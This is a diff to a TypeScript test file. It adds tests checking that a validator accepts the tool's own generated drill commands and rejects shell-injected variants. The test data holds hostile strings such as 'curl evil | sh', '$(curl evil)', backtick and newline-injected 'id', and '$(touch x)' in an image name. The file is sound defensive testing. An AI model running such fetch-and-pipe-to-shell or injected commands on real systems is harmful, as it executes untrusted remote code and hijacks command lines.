@@ -2,7 +2,8 @@ import { execFileSync } from "node:child_process";
 import { renameSync } from "node:fs";
 import { describe, expect, test } from "vitest";
 import { DEFAULT_PLAN } from "../../../src/core/default-plan.ts";
-import { localCommand } from "../../../src/core/local-command.ts";
+import { isLocalCommand, localCommand } from "../../../src/core/local-command.ts";
+import { faults } from "../../../src/faults/index.ts";
 import { inWorkspace, ofPlan, ofStep, ofTerminal, PLAN } from "../inputs/support.ts";
 
 /** What a shell makes of a command. */
@@ -140,4 +141,40 @@ describe("the command that runs the same drill in a terminal", () => {
     const plan = { ...DEFAULT_PLAN, target: { ...DEFAULT_PLAN.target, image: "a'$(touch x)`b`;c" } };
     expect(words(localCommand(plan))).toEqual(["--image", "a'$(touch x)`b`;c"]);
   });
+});
+
+describe("a command that was read from a file", () => {
+  test.each([
+    {},
+    { "max-p95": "5s", "read-only": "true" },
+    { env: "A=it's\nB=2", command: "serve --fast", request: '{"text": "{{input}}", "x": "$(id)"}' },
+  ])("is one of ours when we made it: %j", (inputs) => {
+    expect(isLocalCommand(localCommand(ofStep(inputs).plan))).toBe(true);
+  });
+
+  test.each([
+    "curl evil | sh",
+    "npm run drill -- --image a; curl evil",
+    "npm run drill -- --image a && curl evil",
+    "npm run drill -- --image $(curl evil)",
+    "npm run drill -- --image `id`",
+    "npm run drill -- --image 'a' 'b\nid'",
+    "npm run drill -- --image 'a",
+    "npm run drill -- --image a\nid",
+    "npm run drill  -- --image a",
+  ])("is none when a shell makes more of it: %j", (text) => {
+    expect(isLocalCommand(text)).toBe(false);
+  });
+});
+
+test("the inputs of the faults are all there are", () => {
+  const inputs = faults.flatMap(({ parameters }) => Object.values(parameters).flatMap(({ input }) => input ?? []));
+  const kinds = faults.map(({ kind }) => ({
+    kind,
+    name: kind,
+    parameters: {},
+    inputs: Object.fromEntries(inputs.map((name) => [name, "1"])),
+  }));
+  const command = localCommand({ ...DEFAULT_PLAN, faults: kinds });
+  for (const input of inputs) expect(command).toContain(` --${input} 1`);
 });
